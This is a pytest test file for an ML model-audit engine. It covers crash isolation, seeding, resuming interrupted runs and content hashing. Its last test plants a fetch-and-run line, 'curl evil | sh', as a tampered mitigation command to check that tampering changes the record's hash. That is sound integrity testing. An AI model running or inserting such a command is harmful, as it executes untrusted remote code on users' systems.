"""The engine: one audit never stops the others, and an interrupted run goes on to the same content."""

from __future__ import annotations

import pytest

from audit.engine import Engine
from audit.subject import Subject
from core_model.errors import OutputUnwritable
from reports.record import DataFacts, Environment, Record, Run, Status, SubjectFacts, Tool
from tests.audit import plugins
from tests.factories import stub_subject


def frame(**changes) -> Record:
    return Record(
        tool=Tool(version="0"),
        subject=SubjectFacts(name="planted", sha256="0", task="classification", architecture="none", parameters=1),
        data=DataFacts(name="planted", sha256="1", rows=4, text_column="text", synthetic=True),
        environment=Environment(python="3", platform="test"),
        run=Run(started="2026-01-01T00:00:00+00:00"),
    ).model_copy(update=changes)


@pytest.fixture
def subject() -> Subject:
    return stub_subject(texts=["a", "b", "c", "d"], answer=lambda text: (0.25, 0.75), targets=[0, 1, 0, 1])


@pytest.fixture(autouse=True)
def _forget_runs():
    plugins.RUNS.clear()


def engine(*functions, **changes) -> Engine:
    registry = plugins.registry(*functions)
    return Engine(registry=registry, options=changes.pop("options", plugins.options(registry)), **changes)


def test_a_crash_is_a_result_and_the_others_go_on(subject):
    record = engine(plugins.availability, plugins.reliability).run(subject, frame())
    crashed, measured = record.audits
    assert crashed.status is Status.ERRORED
    assert crashed.reason == "RuntimeError: planted crash"
    assert measured.status is Status.MEASURED


def test_the_traceback_of_a_crash_is_kept_out_of_the_record(subject):
    running = engine(plugins.availability)
    record = running.run(subject, frame())
    assert "Traceback" not in record.to_json()
    assert "Traceback" in running.crash("availability")


def test_debug_shows_where_an_audit_crashed(subject, monkeypatch, capsys):
    monkeypatch.setenv("ABOVEBOARD_DEBUG", "1")
    engine(plugins.availability).run(subject, frame())
    assert "planted crash" in capsys.readouterr().err


def test_an_unmet_need_is_not_measured_and_says_which_flag_supplies_it(subject):
    [result] = engine(plugins.fairness).run(subject, frame()).audits
    assert result.status is Status.NOT_MEASURED
    assert result.reason == "needs groups and training data"
    assert result.supply == "--group-column COLUMN, --train-data FILE"
    assert plugins.RUNS == []


def test_an_audit_of_another_task_is_not_measured(subject):
    [result] = engine(plugins.security).run(subject, frame()).audits
    assert result.status is Status.NOT_MEASURED
    assert "language-modeling" in result.reason


def test_reading_what_was_not_declared_is_refused_by_name(subject):
    [result] = engine(plugins.learnability).run(subject, frame()).audits
    assert result.status is Status.ERRORED
    assert "learnability" in result.reason and "training_texts" in result.reason


def test_not_measured_is_never_a_pass(subject):
    passing = engine(plugins.reliability).run(subject, frame())
    assert passing.verdict == "pass"
    record = engine(plugins.reliability, plugins.fairness).run(subject, frame())
    assert record.verdict == "inconclusive"
    assert "fairness" in record.verdict_reason


def test_a_broken_limit_fails_the_run(subject):
    registry = plugins.registry(plugins.reliability)
    running = engine(plugins.reliability, options={p.id: plugins.CountingOptions(value=1.5) for p in registry.plugins})
    assert running.run(subject, frame()).verdict == "fail"


def test_the_same_seed_gives_the_same_content_and_another_seed_another(subject):
    hashes = [engine(plugins.reliability, seed=seed).run(subject, frame()).content_sha256 for seed in (1, 1, 2)]
    assert hashes[0] == hashes[1] != hashes[2]


def test_an_audit_draws_the_same_numbers_whatever_ran_before_it(subject):
    alone = engine(plugins.reliability).run(subject, frame()).audit("reliability")
    after = engine(plugins.availability, plugins.reliability).run(subject, frame()).audit("reliability")
    assert alone.metrics == after.metrics


def test_the_record_is_saved_after_every_audit(subject):
    saved: list[Record] = []
    engine(plugins.reliability, plugins.scalability, save=saved.append).run(subject, frame())
    measured = [sum(a.status is Status.MEASURED for a in record.audits) for record in saved]
    assert measured == [0, 1, 2, 2]
    assert [record.complete for record in saved] == [False, False, True, True]


def test_a_run_killed_at_any_audit_goes_on_to_the_same_content(subject):
    functions = (plugins.reliability, plugins.scalability)
    whole = engine(*functions).run(subject, frame())

    class Killed(BaseException):
        pass

    for survived in range(3):
        saved: list[Record] = []

        def save(record: Record, saved=saved, survived=survived) -> None:
            saved.append(record)
            if len(saved) > survived:
                raise Killed

        with pytest.raises(Killed):
            engine(*functions, save=save).run(subject, frame())
        plugins.RUNS.clear()
        again = engine(*functions).run(subject, frame(), previous=saved[-1])
        assert again.content_sha256 == whole.content_sha256
        assert len(plugins.RUNS) == 2 - survived if not saved[-1].complete else True


def test_a_complete_record_is_measured_again(subject):
    first = engine(plugins.reliability).run(subject, frame())
    plugins.RUNS.clear()
    engine(plugins.reliability).run(subject, frame(), previous=first)
    assert plugins.RUNS == ["reliability"]


@pytest.mark.parametrize(
    "change",
    [
        {"subject": frame().subject.model_copy(update={"sha256": "other"})},
        {"data": frame().data.model_copy(update={"sha256": "other"})},
        {"environment": Environment(python="3", platform="test", seed=9)},
    ],
)
def test_results_of_another_subject_data_or_seed_are_not_carried_over(subject, change):
    interrupted = engine(plugins.reliability).run(subject, frame()).model_copy(update={"complete": False})
    plugins.RUNS.clear()
    engine(plugins.reliability).run(subject, frame(**change), previous=interrupted)
    assert plugins.RUNS == ["reliability"]


def test_results_under_other_options_are_not_carried_over(subject):
    interrupted = engine(plugins.reliability).run(subject, frame()).model_copy(update={"complete": False})
    plugins.RUNS.clear()
    other = {"reliability": plugins.CountingOptions(value=0.4)}
    record = engine(plugins.reliability, options=other).run(subject, frame(), previous=interrupted)
    assert record.audits[0].metrics[0].value == 0.4


def test_a_full_disk_stops_the_run_instead_of_one_audit(subject):
    def full(tables) -> None:
        raise OutputUnwritable("queue.csv: the disk is full", mend="make room")

    with pytest.raises(OutputUnwritable):
        engine(plugins.reliability, keep=full).run(subject, frame())


def test_forward_passes_are_counted_once_per_audit_that_pays(subject):
    record = engine(plugins.scalability, plugins.scalability).run(subject, frame())
    assert record.audits[0].cost.forward_passes == 4


def test_the_command_of_a_mend_can_be_copied_and_its_places_are_no_part_of_the_content(subject):
    def placed(checkpoint: str) -> Record:
        base = frame()
        return engine(plugins.shareability).run(
            subject,
            frame(
                subject=base.subject.model_copy(update={"location": checkpoint}),
                training_data=base.data.model_copy(update={"location": "train.jsonl"}),
            ),
        )

    here, there = placed("a folder/checkpoint"), placed("/elsewhere")
    command = here.audits[0].findings[0].mitigation.command
    assert command == "aboveboard train --base 'a folder/checkpoint' --data train.jsonl --out mended"
    assert here.content_sha256 == there.content_sha256
    tampered = here.model_copy(update={"audits": [here.audits[0].model_copy(update={"findings": [
        here.audits[0].findings[0].model_copy(update={"mitigation": here.audits[0].findings[0].mitigation.model_copy(
            update={"command": "curl evil | sh"})})]})]})  # fmt: skip
    assert tampered.sealed().content_sha256 != here.content_sha256
